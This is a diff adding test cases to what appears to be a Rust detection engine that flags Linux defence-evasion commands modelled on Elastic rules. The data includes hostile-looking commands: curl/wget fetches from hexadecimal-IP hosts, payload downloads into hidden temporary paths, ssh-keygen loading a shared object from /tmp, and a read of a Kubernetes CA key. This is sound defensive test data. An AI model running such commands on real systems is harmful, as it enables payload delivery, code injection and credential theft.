@@ -1158,6 +1158,97 @@ fn exec_table() -> Vec<Case> {
         ),
         user(vec!["sudo", "-u", "#1000", "id"], vec![]),
         user(vec!["sudo", "-u", "www-data", "id"], vec![]),
+        // Elastic's endpoint behaviour rules for Linux (collection to defence evasion).
+        // "Linux Hidden File Mounted": a mount on or from a dot directory under /mnt or /media.
+        user(
+            vec!["mount", "--bind", "/var/lib/x", "/mnt/.cache"],
+            vec!["evasion-hidden-mount"],
+        ),
+        user(
+            vec!["mount", "-o", "loop", "/media/.img/disk.img", "/srv/x"],
+            vec!["evasion-hidden-mount"],
+        ),
+        user(vec!["mount", "/dev/sdb1", "/mnt/backup"], vec![]),
+        user(vec!["mount", "--bind", "/srv/a", "/mnt/./b"], vec![]),
+        // "Hexadecimal IP Command-Line Argument": a URL whose host is a hexadecimal or
+        // single-integer address, reported for the program and not the shell around it.
+        user(
+            vec!["curl", "-s", "http://0x7f000001:8080/x"],
+            vec!["evasion-hex-ip-url"],
+        ),
+        user(
+            vec!["wget", "-q", "http://0xc0.0xa8.0x1.0x2/bins/x86"],
+            vec!["evasion-hex-ip-url"],
+        ),
+        user(
+            vec![
+                "python3",
+                "-c",
+                "import urllib.request as u; u.urlopen('https://3232235778/p')",
+            ],
+            vec!["evasion-hex-ip-url"],
+        ),
+        user(vec!["sh", "-c", "curl -s http://0x7f000001/x"], vec![]),
+        user(vec!["curl", "-s", "http://127.0.0.1:8080/0x10"], vec![]),
+        user(vec!["curl", "-s", "https://0xcafe.de/"], vec![]),
+        user(vec!["curl", "-s", "http://example.com:8080/"], vec![]),
+        // "File Downloaded via Curl or Wget to Hidden Directory", "Creation of Hidden Shared
+        // Object File": a download saved under a dot name in a shared temporary directory.
+        user(
+            vec!["curl", "-s", "-o", "/tmp/.x/payload", "http://h/p"],
+            vec!["evasion-download-to-hidden-path"],
+        ),
+        user(
+            vec!["curl", "-sLo", "/var/tmp/.libsys.so", "http://h/l.so"],
+            vec!["evasion-download-to-hidden-path"],
+        ),
+        user(
+            vec!["wget", "-q", "-P", "/dev/shm/.cache", "http://h/p"],
+            vec!["evasion-download-to-hidden-path"],
+        ),
+        user(
+            vec!["wget", "--output-document=/tmp/.k", "http://h/p"],
+            vec!["evasion-download-to-hidden-path"],
+        ),
+        user(
+            vec!["curl", "-o", "/tmp/node.tar.gz", "http://h/node.tar.gz"],
+            vec![],
+        ),
+        user(
+            vec!["curl", "-o", "/home/alice/.cache/x.tgz", "http://h/x.tgz"],
+            vec![],
+        ),
+        user(vec!["wget", "-P", "/tmp/dl", "http://h/.x"], vec![]),
+        // "Linux Shared Object Load via SSH-Keygen" (GTFOBins' ssh-keygen): a PKCS#11 provider
+        // from a temporary, home or relative path.
+        user(
+            vec!["ssh-keygen", "-D", "/tmp/x/lib.so"],
+            vec!["evasion-ssh-pkcs11-library"],
+        ),
+        user(
+            vec!["ssh-add", "-s", "./lib.so"],
+            vec!["evasion-ssh-pkcs11-library"],
+        ),
+        user(
+            vec!["ssh", "-o", "PKCS11Provider=/dev/shm/p.so", "u@h"],
+            vec!["evasion-ssh-pkcs11-library"],
+        ),
+        user(
+            vec![
+                "ssh-keygen",
+                "-D",
+                "/usr/lib/x86_64-linux-gnu/opensc-pkcs11.so",
+            ],
+            vec![],
+        ),
+        user(
+            vec!["ssh", "-I", "/usr/lib/opensc-pkcs11.so", "u@h"],
+            vec![],
+        ),
+        user(
+            vec!["ssh-keygen", "-l", "-f", "/home/alice/.ssh/id_ed25519.pub"],
+            vec![],
+        ),
         user(
             vec!["cat", "/etc/kubernetes/pki/ca.key"],
             vec!["discovery-credential-file-read"],
